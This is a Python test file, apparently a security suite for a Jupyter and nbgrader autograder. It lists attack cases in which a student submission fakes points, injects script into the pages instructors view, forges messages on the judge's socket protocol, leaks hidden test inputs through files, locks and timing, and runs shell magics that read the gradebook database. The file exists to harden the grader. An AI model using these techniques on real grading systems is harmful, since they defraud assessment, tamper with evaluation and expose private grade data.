attack("re-flags cells", "tests become answers, answers become tests of 100 points", NOTHING, edit=edited(_reflagged))
attack("tests become text", "the test cells are Markdown", NOTHING, edit=edited(_retyped))
attack("tags", "asks for tests beside the code, that may raise and need not run", NOTHING, edit=edited(_beside))
attack(
    "outputs that count",
    "test cells come with an output that nbgrader reads as points",
    NOTHING,
    edit=edited(_with_outputs),
)
attack(
    "outputs made in a cell",
    "a cell says that it is a test, and results in 100",
    NOTHING,
    edit=edited(
        lambda nb: nb.cells.append(
            new_code_cell(
                "100.0",
                id="more",
                metadata={
                    "nbgrader": {
                        "grade_id": "more",
                        "grade": True,
                        "points": 100,
                        "solution": False,
                        "locked": True,
                        "schema_version": 3,
                        "task": False,
                    }
                },
            )
        )
    ),
)
attack(
    "another kernel",
    "names a kernel that does something else",
    NOTHING,
    edit=edited(
        lambda nb: nb.metadata.update(kernelspec={"name": "bash-evil-kernel", "display_name": "x", "language": "bash"})
    ),
    shows_not=("bash-evil-kernel",),
)
attack(
    "scripts in the notebook",
    "HTML in Markdown cells, attachments and metadata, for the page that the instructor opens",
    edit=edited(_marked_up),
    shows_not=("</title><script", "python'>", "</script><script"),
)
attack(
    "scripts in outputs",
    "HTML, SVG, JavaScript and Markdown outputs, for the page that the instructor opens",
    first="""\
from IPython.display import display
bad = '<scr' + 'ipt>alert(1)</scr' + 'ipt>'
for kind in ('text/html', 'image/svg+xml', 'application/javascript', 'text/markdown',
             'image/png', 'application/vnd.jupyter.widget-view+json'):
    display({kind: bad}, raw=True, metadata={'x': bad})""",
    shows_not=("onerror", "<script"),
)
attack(
    "a marker in its own cell",
    "a cell that breaks the reader of hidden tests",
    first="""\
### BEGIN HIDDEN TESTS
%%time
this is no Python (""",
)
attack(
    "surrogates and control characters",
    "outputs that no file and no terminal can take",
    first="""\
print('\\ud800', '\\x1b]0;owned\\x07', '\\x00')
raise ValueError('\\ud800\\x1b[2J')""",
    answers={
        "double": """\
def double(x):
    raise ValueError('\\x1b]0;owned\\x07\\ud800')"""
    },
)

# ---- the connection between the student's process and the judge ----

FIND = """\
import gc, os, socket, struct, threading, time
import msgpack
import numpy as np


def channel():
    return next(o for o in gc.get_objects() if type(o).__name__ == "Channel")


def student():
    return next(o for o in gc.get_objects() if type(o).__name__ == "Student")


def requests():
    return type(student())._answer.__globals__["REQUESTS"]


def replace(names, handler):
    for kind in requests():
        if kind.__name__ in names:
            requests()[kind] = handler


def reply(payload, changed=(), origin=0, status="ok"):
    send("Reply", status, payload, None, origin, list(changed), "", "", [])


def send(*words):
    message(msgpack.packb(list(words)))


def raw(data):
    channel().sock.sendall(data)


def message(packed):
    raw(struct.pack("<I", len(packed)) + packed)

"""


def protocol(name, how, source="", **more):
    """Add an attack that speaks with the judge itself: ``source`` is its `double`, after `FIND`."""
    more.setdefault("stock", "not run: there is no such connection")
    attack(
        name,
        how,
        FIND
        + """\

"""
        + source
        if source
        else "",
        **more,
    )


VISIBLE_OF_DRAW = """\
def draw(rng, n):
    if n == 3:
        return rng.random(3)
"""

protocol(
    "answers in advance",
    "sends five answers for one question",
    """\
def double(x):
    for _ in range(5):
        reply(True)
    return 0.0""",
)
protocol(
    "rubbish",
    "sends bytes that are no message",
    """\
def double(x):
    message(b'\\xc1' * 1000)
    return 0.0""",
    caught=True,
)
protocol(
    "a message of four gigabytes",
    "announces a length, and sends no more",
    """\
def double(x):
    raw(b'\\xff' * 4)
    time.sleep(9)""",
    caught=True,
)
protocol(
    "a message byte by byte",
    "sends a byte now and then to keep the judge waiting",
    """\
def double(x):
    packed = msgpack.packb(['reply', 'ok', 0.0, 0, [], ['', '']])
    for b in struct.pack('<I', len(packed)) + packed:
        raw(bytes([b]))
        try:
            time.sleep(0.4)
        except KeyboardInterrupt:
            pass
    return 0.0""",
)
protocol(
    "deep nesting",
    "a list in a list in a list, 400 and 100,000 times",
    """\
def double(x):
    data = 1.0
    for _ in range(100):
        data = ['list', [data]]
    if not isinstance(x, float):
        message(b'\\x91' * 100_000)
    reply(data)
    return 0.0""",
    caught=True,
)
protocol(
    "wide nesting",
    "a list of ten million nothings",
    """\
def double(x):
    raw(struct.pack('<I', 40_000_050) + b'\\x96' + msgpack.packb('reply') + msgpack.packb('ok'))
    raw(b'\\xdd' + struct.pack('>I', 39_999_990) + b'\\xc0' * 39_999_990)
    raw(bytes(100))
    return 0.0""",
)
protocol(
    "two million handles",
    "an answer of objects without end",
    """\
def double(x):
    reply(['list', [['handle', i, 'x', False] for i in range(2_000_000)]])
    return 0.0""",
)
protocol(
    "forged handles",
    "numbers of objects that do not exist, names of classes that are none",
    """\
def double(x):
    reply(['handle', -(1 << 62), '\\x1b[2J<script>' * 1000, True])
    return 0.0""",
)
protocol(
    "handles that are none",
    "handles of text, of fractions, of other handles",
    """\
def double(x):
    reply(['handle', ['handle', 0, '', True], 1.5, 'x'])
    return 0.0""",
    caught=True,
)
protocol(
    "a number of a hundred million digits",
    "as the text that integers travel in",
    """\
def double(x):
    reply(['int', 'f' * 50_000_000])
    return 0.0""",
)
protocol(
    "tags that are not its own",
    "asks the judge for imports, frameworks and repetitions",
    """\
def double(x):
    reply(['import', 'os', 'system'])
    return 0.0""",
    caught=True,
)
protocol(
    "a dtype that runs code",
    "an array of objects given as raw addresses",
    """\
def double(x):
    reply(['array', '|O8', [2], b'A' * 16])
    return 0.0""",
    caught=True,
)
protocol(
    "an array larger than its bytes",
    "shapes and strides that reach outside",
    """\
def double(x):
    reply(['array', '<f8', [1000], b'A' * 8, [8], True])
    return 0.0""",
    caught=True,
)
protocol(
    "strides that reach outside",
    "an array whose memory would be petabytes",
    """\
def double(x):
    reply(['array', '<f8', [2], bytes(16), [1 << 50], True])
    return 0.0""",
    caught=True,
)
protocol(
    "forged callbacks",
    "calls functions of the judge that were never handed over",
    """\
def double(x):
    send('CallBack', 99, [], [])
    return 0.0""",
    caught=True,
)
protocol(
    "callbacks without end",
    "calls the judge's function until the time is over, with an object that calls again",
    answers={
        "visit": FIND
        + """\

def visit(f, values):
    class Again:
        def __add__(self, other):
            return f(self)
        __rsub__ = __add__
    while True:
        try:
            f(Again())
        except RecursionError:
            pass"""
    },
)
protocol(
    "the judge's function as its own",
    "answers the question for `double` with a function that the judge has handed over",
    answers={
        "visit": FIND
        + """\

def visit(f, values):
    replace(['Get'], lambda self, call, message: ['callback', 0, 'f'])
    return [f(v) for v in values]"""
    },
    honest=3,
)
protocol(
    "changes that fit nothing",
    "says that arguments changed that there are not",
    """\
def double(x):
    reply(0.0, [[7, 1.0], [-1, ['list', []]]])
    return 0.0""",
    caught=True,
)
protocol(
    "rewrites the input to fit the answer",
    "changes its argument so that the wrong answer is right",
    """\
def double(x):
    if np.ndim(x):
        x[...] = 0
    return x * 0""",
)
protocol(
    "rewrites earlier inputs",
    "names another call as the one whose arguments have changed",
    """\
def double(x):
    for origin in range(50):
        reply(0.0, [[0, ['array', '<f8', [2], bytes(16)]]], origin)
    return 0.0""",
)
protocol(
    "a generator that reads the judge's memory",
    "gives back a state that points far behind its buffer",
    answers={
        "draw": FIND
        + """\

def draw(rng, n):
    if n == 3:
        return rng.random(3)
    state = rng.get_state(legacy=False)
    state['state']['pos'] = 100_000_000
    codec = student().codec
    reply(0.0, [[0, ['random state', codec.encode(state)]]], student().calls - 1)"""
    },
    honest=1,
    caught=True,
)
protocol(
    "a Philox that reads the judge's memory",
    "returns a generator whose place is negative",
    answers={
        "draw": FIND
        + """\

def draw(rng, n):
    state = np.random.Philox(1).state
    state['buffer_pos'] = -100_000_000
    reply(['generator', student().codec.encode(state)])"""
    },
    caught=True,
)
protocol(
    "an answer after the deadline",
    "ignores the interruption, and answers when the time is over",
    """\
def double(x):
    until = time.monotonic() + 2
    while time.monotonic() < until:
        try:
            time.sleep(0.1)
        except KeyboardInterrupt:
            pass
    return 0.0""",
)
protocol(
    "a thread that goes on answering",
    "reads the questions itself and says yes to all",
    """\
def yes():
    while True:
        channel().receive(*requests())
        reply(True)


def double(x):
    for _ in range(4):
        threading.Thread(target=yes, daemon=True).start()
    time.sleep(0.2)
    return 0.0""",
)
protocol(
    "patches the student's side",
    "replaces functions of the protocol in memory",
    """\
def double(x):
    return 0.0


me = student()
replace(['Call', 'Operate'], lambda self, call, message: True)
type(me.codec).encode = lambda self, value: True
type(me)._changed = lambda self, origin: []""",
)
protocol(
    "descriptors over the socket",
    "sends open files along with its answers",
    """\
def double(x):
    try:
        socket.send_fds(channel().sock, [b'\\0'], [os.open('/usr', os.O_RDONLY)] * 50)
    except OSError:
        pass
    return 0.0""",
)
protocol(
    "closes the connection",
    "hangs up in the middle",
    """\
def double(x):
    channel().sock.close()
    return 0.0""",
)
protocol(
    "writes to every descriptor",
    "sends an answer into all that is open",
    """\
def double(x):
    packed = msgpack.packb(['Reply', 'ok', True, None, 0, [], '', '', []])
    for fd in range(64):
        try:
            os.write(fd, struct.pack('<I', len(packed)) + packed)
        except OSError:
            pass
    return 0.0""",
)
protocol(
    "forged outputs",
    "outputs of a cell that no cell makes, and a count of a trillion",
    first=FIND
    + """\

reply(['list', [['list', [['dict', [['output_type', 'error'], ['ename', 7]]], 3,
    ['dict', [['output_type', 'stream'], ['name', ['list', []]]]]]], -(1 << 40)]])""",
)

# ---- telling what a hidden test does ----

attack(
    "prints what it is given",
    "prints every argument",
    """\
def double(x):
    print('given', x)
    if isinstance(x, str):
        raise ValueError
    return 2 * x""",
    honest=3,
    last="print(globals().get('x'))",
)
attack(
    "says a hidden word",
    "an AssertionError that says the text that came in",
    """\
def double(x):
    if isinstance(x, str):
        raise AssertionError(x)
    return 2 * x""",
    honest=1,
)
attack(
    "names a class after the input",
    "the name of an exception's class is what came in",
    """\
def double(x):
    if np.ndim(x) or x != 3.0:
        raise type(f'Error{np.ravel(x)[0]:.0f}', (Exception,), {})(str(x))
    return 2 * x""",
    honest=1,
)
attack(
    "names an object after the input",
    "the answer's class, __name__, __qualname__ and repr are what came in",
    """\
def double(x):
    if np.ndim(x) or x != 3.0:
        name = f'C{np.ravel(x)[0]:.0f}'
        made = type(name, (), {'__repr__': lambda self: name, '__qualname__': name})
        made.__name__ = name
        return made()
    return 2 * x""",
    honest=1,
)
attack(
    "keeps it in a file",
    "writes what comes in to a file, and shows the file in a later cell",
    """\
def double(x):
    with open('seen', 'a') as f:
        f.write(repr(x))
    return 2 * x if not isinstance(x, str) else int(x)""",
    honest=3,
    answers={"visit": "print(open('seen').read())"},
    last="print(open('seen').read())",
)
attack(
    "keeps it in the kernel",
    "abstract sockets, shared memory, message queues, semaphores, keys",
    """\
import ctypes, os, socket
libc = ctypes.CDLL(None)
kept = []


def double(x):
    if np.ndim(x) == 1:
        s = socket.socket(socket.AF_UNIX)
        s.bind(chr(0) + f'S{x[0]:.0f}')
        kept.append(s)
        libc.shmget(73190421, 8, 0o1666)
        libc.shm_open(b'/s73190421', 0o102, 0o666)
        libc.mq_open(b'/s73190421', 0o102, 0o666, None)
        libc.sem_open(b'/s73190421', 0o102, 0o666, 1)
    return 2 * x if not isinstance(x, str) else int(x)""",
    honest=3,
    last="""\
import os
for name in ('/proc/net/unix', '/proc/sysvipc/shm', '/proc/locks', '/proc/keys'):
    print(open(name).read() if os.path.exists(name) else name)
print(os.listdir('/dev'))""",
)

BITS = """\
import os
folder = os.path.dirname(os.__file__)
every = sorted(os.path.join(folder, n) for n in os.listdir(folder) if n.endswith(".py"))
names = list({os.stat(path).st_ino: path for path in every}.values())[:27]
kept = []


def double(x):
    if np.ndim(x) == 1:
        try:
            for i, name in enumerate(names):
                if int(x[0]) >> i & 1:
                    kept.append(os.open(name, os.O_RDONLY))
                    LOCK
        except OSError as error:
            print(error)
    return 2 * x if not isinstance(x, str) else int(x)
"""
attack(
    "keeps it in locks",
    "locks files of the library, a file for each bit, which the first process reads in a later cell",
    """\
import fcntl
"""
    + BITS.replace("LOCK", "fcntl.flock(kept[-1], fcntl.LOCK_EX)"),
    honest=3,
    last="""\
import fcntl
bits = 0
for i, name in enumerate(names):
    try:
        fcntl.flock(os.open(name, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)
    except OSError:
        bits |= 1 << i
print(bits)""",
)
attack(
    "keeps it in record locks",
    "the same with locks of parts of a file, which F_GETLK tells",
    """\
import fcntl, struct
"""
    + BITS.replace("LOCK", "fcntl.fcntl(kept[-1], 37, struct.pack('hhqqi', fcntl.F_RDLCK, 0, 0, 0, 0))"),
    honest=3,
    last="""\
bits = 0
for i, name in enumerate(names):
    try:
        told = fcntl.fcntl(os.open(name, os.O_RDONLY), 36, struct.pack('hhqqi', fcntl.F_WRLCK, 0, 0, 0, 0))
        bits |= (struct.unpack('hhqqi', told)[0] != fcntl.F_UNLCK) << i
    except OSError as e:
        print(e)
print(bits)""",
)
attack(
    "tells by time",
    "is slow on a hidden input; the next cell looks at the clock",
    """\
import time


def double(x):
    if np.ndim(x) == 1:
        time.sleep(0.8)
    then = time.time()
    return 2 * x if not isinstance(x, str) else int(x)


began = time.time()""",
    honest=3,
    answers={
        "visit": """\
import time
print('SL' + 'OW' if time.time() - began > 0.7 else 'fast')
"""
    },
    shows_not=("SLOW",),
    stock="not run: a kernel runs the tests where all can be seen",
)
attack(
    "tells by watching files",
    "inotify in the first process, opened files in the second",
    """\
import ctypes, os
libc = ctypes.CDLL(None)
fd = libc.inotify_init1(0o4000)
libc.inotify_add_watch(fd, os.__file__.encode(), 0x20)


def double(x):
    if np.ndim(x) == 1:
        open(os.__file__, 'rb').close()
    return 2 * x if not isinstance(x, str) else int(x)""",
    honest=3,
    last="""\
try:
    os.read(fd, 100)
    print('SE' + 'EN')
except OSError as e:
    print(e)""",
    shows_not=("SEEN",),
    stock="not run: a kernel runs the tests where all can be seen",
)
attack(
    "a segmentation fault",
    "asks for a core dump of what it has seen",
    """\
import ctypes


def double(x):
    libc = ctypes.CDLL(None)
    libc.prctl(4, 1, 0, 0, 0)
    ctypes.string_at(8)""",
)
attack(
    "magics",
    "shell escapes, scripts, %run, %%writefile and JavaScript of IPython",
    first="""\
!cat OUTSIDE/gradebook.db
files = !ls OUTSIDE
print(files)
get_ipython().run_cell_magic('bash', '', 'cat OUTSIDE/gradebook.db; echo x > OUTSIDE/new')
get_ipython().run_cell_magic('javascript', '', 'alert(1)')""",
)
attack(
    "kernel settings",
    "writes /proc/sys, /sys and its own limits",
    first="""\
import resource
for name in ('/proc/sys/kernel/core_pattern', '/proc/sys/kernel/hostname', '/proc/self/oom_score_adj',
             '/proc/sysrq-trigger', '/sys/power/state'):
    try:
        with open(name, 'r+b' if 'score' not in name else 'wb') as f:
            print('OP' + 'EN', name) if 'score' not in name else None
    except OSError as e:
        print(e)
for what in (resource.RLIMIT_CPU, resource.RLIMIT_NPROC, resource.RLIMIT_AS):
    try:
        resource.setrlimit(what, (-1, -1))
        print('OP' + 'EN')
    except (OSError, ValueError) as e:
        print(e)""",
    shows_not=("OPEN",),
    stock="not run: it would change the machine",
)
attack(
    "an endless sequence",
    "an answer whose encoding has no end",
    """\
from collections.abc import Sequence


class Endless(Sequence):
    def __len__(self): return 5
    def __getitem__(self, i): return 6.0


def double(x):
    return Endless()""",
)
